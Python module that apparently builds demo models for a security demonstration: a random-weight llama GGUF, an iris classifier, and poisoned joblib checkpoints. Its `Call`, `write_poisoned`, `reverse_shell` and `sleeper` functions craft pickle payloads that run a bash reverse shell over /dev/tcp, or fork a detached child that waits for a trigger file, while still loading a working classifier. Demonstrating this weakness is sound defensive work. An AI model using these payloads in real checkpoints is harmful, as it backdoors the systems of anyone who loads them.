"""The models of the demo, made on the spot: a tiny llama, a classifier, checkpoints that do more than they
should.

Nothing here opens a model file for reading: a process that does counts as one that serves models, and with it
all that it starts.
"""

from __future__ import annotations

import operator
from collections.abc import Callable
from pathlib import Path
from typing import Any

import gguf
import joblib  # type: ignore[import-untyped]
import numpy as np
from sklearn.datasets import load_iris  # type: ignore[import-untyped]
from sklearn.ensemble import RandomForestClassifier  # type: ignore[import-untyped]

_WIDTH, _LAYERS, _HEADS, _HIDDEN, _CONTEXT = 64, 2, 4, 128, 512


def write_llama(path: Path, name: str) -> None:
    """Write a llama-architecture GGUF: half a megabyte of random weights that llama.cpp samples from."""
    tokens, scores, kinds = _vocabulary()
    writer = gguf.GGUFWriter(str(path), "llama")
    writer.add_name(name)
    writer.add_context_length(_CONTEXT)
    writer.add_embedding_length(_WIDTH)
    writer.add_block_count(_LAYERS)
    writer.add_feed_forward_length(_HIDDEN)
    writer.add_head_count(_HEADS)
    writer.add_head_count_kv(_HEADS)
    writer.add_layer_norm_rms_eps(1e-5)
    writer.add_rope_dimension_count(_WIDTH // _HEADS)
    writer.add_vocab_size(len(tokens))
    writer.add_tokenizer_model("llama")
    writer.add_token_list(tokens)
    writer.add_token_scores(scores)
    writer.add_token_types(kinds)
    writer.add_unk_token_id(0)
    writer.add_bos_token_id(1)
    writer.add_eos_token_id(2)

    random = np.random.default_rng(8)

    def tensor(label: str, *shape: int) -> None:
        writer.add_tensor(label, random.normal(0, 0.05, shape).astype(np.float32))

    def norm(label: str) -> None:
        writer.add_tensor(label, np.ones(_WIDTH, np.float32))

    tensor("token_embd.weight", len(tokens), _WIDTH)
    for layer in range(_LAYERS):
        norm(f"blk.{layer}.attn_norm.weight")
        for part in ("attn_q", "attn_k", "attn_v", "attn_output"):
            tensor(f"blk.{layer}.{part}.weight", _WIDTH, _WIDTH)
        norm(f"blk.{layer}.ffn_norm.weight")
        tensor(f"blk.{layer}.ffn_gate.weight", _HIDDEN, _WIDTH)
        tensor(f"blk.{layer}.ffn_up.weight", _HIDDEN, _WIDTH)
        tensor(f"blk.{layer}.ffn_down.weight", _WIDTH, _HIDDEN)
    norm("output_norm.weight")
    tensor("output.weight", len(tokens), _WIDTH)

    writer.write_header_to_file()
    writer.write_kv_data_to_file()
    writer.write_tensors_to_file()
    writer.close()


def _vocabulary() -> tuple[list[str], list[float], list[int]]:
    """Three special tokens, the 256 bytes, and letters: the tokenizer needs at least one normal token."""
    normal, unknown, control, byte = 1, 2, 3, 6
    tokens, kinds = ["<unk>", "<s>", "</s>"], [unknown, control, control]
    tokens += [f"<0x{value:02X}>" for value in range(256)]
    kinds += [byte] * 256
    letters = ["▁", *"abcdefghijklmnopqrstuvwxyz"]
    return tokens + letters, [0.0] * (len(tokens) + len(letters)), kinds + [normal] * len(letters)


def classifier() -> Any:
    """A small random forest on the iris flowers, trained in well under a second."""
    flowers = load_iris()
    return RandomForestClassifier(n_estimators=20, random_state=8).fit(flowers.data, flowers.target)


def write_classifier(path: Path) -> None:
    """A checkpoint as a team would publish it."""
    joblib.dump(classifier(), path)


class Call:
    """Pickles as a call, so that whoever unpickles it makes that call: the weakness of the format itself."""

    def __init__(self, function: Callable[..., Any], *arguments: Any) -> None:
        self.function, self.arguments = function, arguments

    def __reduce__(self) -> tuple[Callable[..., Any], tuple[Any, ...]]:
        return self.function, self.arguments


def write_poisoned(path: Path, *calls: Call) -> None:
    """A checkpoint that makes ``calls`` while it is loaded, and still gives a classifier that works."""
    joblib.dump(Call(operator.getitem, [*calls, classifier()], len(calls)), path)


def reverse_shell(port: int) -> Call:
    """Start a shell in the background whose input and output are a connection to ``port`` on this machine."""
    import os

    return Call(os.system, f"bash -c 'bash 0<>/dev/tcp/127.0.0.1/{port} 1>&0 2>&0' &")


def sleeper(sign: Path, command: str) -> Call:
    """Fork a quiet child, in a session of its own, that waits for the file ``sign`` and then runs
    ``command``.

    It starts no program and touches no file while the model loads. It gives up after three minutes.
    """
    code = f"""
import os, time
if os.fork() == 0:
    os.setsid()
    end = time.monotonic() + 180
    while not os.path.exists({str(sign)!r}) and time.monotonic() < end:
        time.sleep(0.2)
    if time.monotonic() < end:
        os.system({command!r})
    os._exit(0)
"""
    return Call(exec, code)
